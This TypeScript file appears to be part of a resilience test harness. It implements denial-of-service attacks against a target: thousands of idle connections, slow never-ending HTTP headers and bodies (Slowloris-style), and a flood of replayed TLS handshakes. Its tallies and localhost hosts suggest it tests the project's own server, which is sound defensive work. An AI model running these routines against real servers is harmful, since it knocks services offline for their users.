// Connections that hold on to what a server has few of, and give it nothing to do.
import { once } from "node:events";
import net from "node:net";
import tls from "node:tls";
import { type Attack, clientAddress, connectTcp, connectTls, count, keepOpen } from "./target.ts";

const addresses = 40;
/** How often a slow client sends a little more, in milliseconds. */
const slowlyMs = 500;

/** How many connections of the address with the most are open. */
export const openOfOne = "open connections of one address";

/** 4,000 connections of 40 addresses that say nothing, and as many as it gets of one more. */
export const silentConnections: Attack = async (target) => {
  void keepOpen(
    1_000,
    () => connectTcp(target, clientAddress(addresses)),
    (socket) => {
      count(target, openOfOne);
      socket.once("close", () => count(target, openOfOne, -1));
    },
  );
  await keepOpen(
    4_000,
    (n) => connectTcp(target, clientAddress(n % addresses)),
    () => void count(target, "silent connections"),
  );
};

/** Heads that never end: a field at a time, slowly. */
export const slowHeads: Attack = (target) =>
  keepOpen(
    800,
    (n) => connectTls(target, clientAddress(n % addresses), "http/1.1"),
    (socket) => {
      socket.write("GET / HTTP/1.1\r\nHost: localhost\r\n");
      goOn(socket, () => `X-${count(target, "parts of slow heads")}: 1\r\n`);
    },
  );

/** Bodies that never end: more than a proxy may buffer at once, and then a few bytes at a time. */
export const slowBodies: Attack = (target) => {
  const head = "POST /api/v1/agents/register HTTP/1.1\r\nHost: localhost\r\nContent-Length: 200000\r\n\r\n";
  return keepOpen(
    800,
    (n) => connectTls(target, clientAddress(n % addresses), "http/1.1"),
    (socket) => {
      socket.write(head + " ".repeat(20_000));
      goOn(socket, () => " ".repeat(Math.min(10, count(target, "parts of slow bodies"))));
    },
  );
};

function goOn(socket: net.Socket, part: () => string): void {
  const timer = setInterval(() => socket.write(part()), slowlyMs);
  socket.once("close", () => clearInterval(timer));
}

/**
 * TLS handshakes, as many as the server takes: half of them from one address. They cost the attacker nothing, for all send the
 * same beginning, and leave when the server has signed.
 */
export const handshakes: Attack = async (target) => {
  const hello = await recordHello();
  const shakeHands = async (n: number) => {
    for (;;) {
      const socket = connectTcp(target, clientAddress(n % 2 === 0 ? 0 : n % addresses));
      socket.write(hello);
      const event = await Promise.race([once(socket, "data").then(() => true), once(socket, "close")]).catch(
        () => false,
      );
      if (event === true) count(target, "handshakes");
      socket.destroy();
      if (event !== true) await new Promise((resolve) => setTimeout(resolve, 50));
      if ((target.tally.handshakes ?? 0) >= 1_000) swinging.resolve();
    }
  };
  const swinging = Promise.withResolvers<void>();
  for (let n = 0; n < 64; n++) void shakeHands(n);
  await swinging.promise;
};

/** The first bytes of a client of TLS. */
async function recordHello(): Promise<Buffer> {
  const server = net.createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as net.AddressInfo;
  const names = { servername: "localhost", ALPNProtocols: ["h2", "http/1.1"] };
  const client = tls.connect({ host: "127.0.0.1", port, ...names }).on("error", () => {});
  const [socket] = (await once(server, "connection")) as [net.Socket];
  const [hello] = (await once(socket, "data")) as [Buffer];
  client.destroy();
  server.close();
  return hello;
}
